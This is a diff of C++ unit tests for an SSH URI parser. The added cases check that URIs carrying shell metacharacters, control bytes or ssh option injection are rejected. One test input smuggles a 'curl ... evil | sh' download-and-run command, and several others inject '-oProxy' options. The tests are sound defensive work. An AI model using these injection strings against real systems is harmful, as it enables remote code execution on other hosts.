@@ -48,9 +48,12 @@ TEST_CASE("URIs")
     CHECK(ssh->scheme == Uri::Scheme::ssh);
     CHECK(ssh->host == "me@fluke1:2222");
     CHECK(ssh->path == "/tmp/x/local");
+    CHECK(parse_uri("ssh://node-1.example/run/flux/dat-f1a_2+3,4=5@6:7%8~9/local?x=y"));
     for (auto* bad :
          {"", "/run/flux/local", "http://x/y", "local://", "local://x", "ssh://",
-          "ssh://host", "ssh://host/", "ssh:///path", "ssh://-oProxy/x"}) {
+          "ssh://host", "ssh://host/", "ssh:///path", "ssh://-oProxy/x", "ssh://@h/x",
+          "ssh://a@-oProxy/x", "ssh://a@/x", "ssh://h:/x", "ssh://h:22x/x",
+          "ssh://a@b@-h/x", "ssh://:22/x", "ssh://h:-1/x"}) {
         auto uri = parse_uri(bad);
         INFO(bad);
         REQUIRE(!uri);
@@ -61,6 +64,32 @@ TEST_CASE("URIs")
     unsetenv("FLUX_URI_RESOLVE_LOCAL");
     REQUIRE(resolved);
     CHECK(resolved->scheme == Uri::Scheme::local);
+}
+
+TEST_CASE("What a shell might obey does not get to ssh")
+{
+    unsetenv("FLUX_URI_RESOLVE_LOCAL");
+    for (bool resolved : {false, true}) {
+        if (resolved) // a slip of the environment must not make the difference
+            setenv("FLUX_URI_RESOLVE_LOCAL", "t", 1);
+        for (std::string_view c :
+             {";", " ", "\t", "\n", "\r",   "$",    "`",    "'", "\"", "|",
+              "&", "<", ">",  "(",  ")",    "*",    "\\",   "{", "}",  "!",
+              "#", "^", "[",  "]",  "\x01", "\x7f", "\x9b", "ä"})
+            for (auto& uri : {fmt::format("ssh://node7/x{}y", c),
+                              fmt::format("ssh://node{}7/x", c)}) {
+                INFO(uri);
+                CHECK_FALSE(parse_uri(uri));
+            }
+        auto nul = parse_uri(std::string_view("ssh://node7/x\0y", 15));
+        REQUIRE_FALSE(nul);
+        CHECK(nul.error().message.find("x\\x00y") != std::string::npos);
+    }
+    unsetenv("FLUX_URI_RESOLVE_LOCAL");
+    auto error = parse_uri("ssh://node7/x;curl${IFS}evil|sh").error();
+    CHECK(error.exit == Exit::usage);
+    CHECK(error.message.find("the shell of another host might obey")
+          != std::string::npos);
 }
 
 TEST_CASE("A call and its answer")
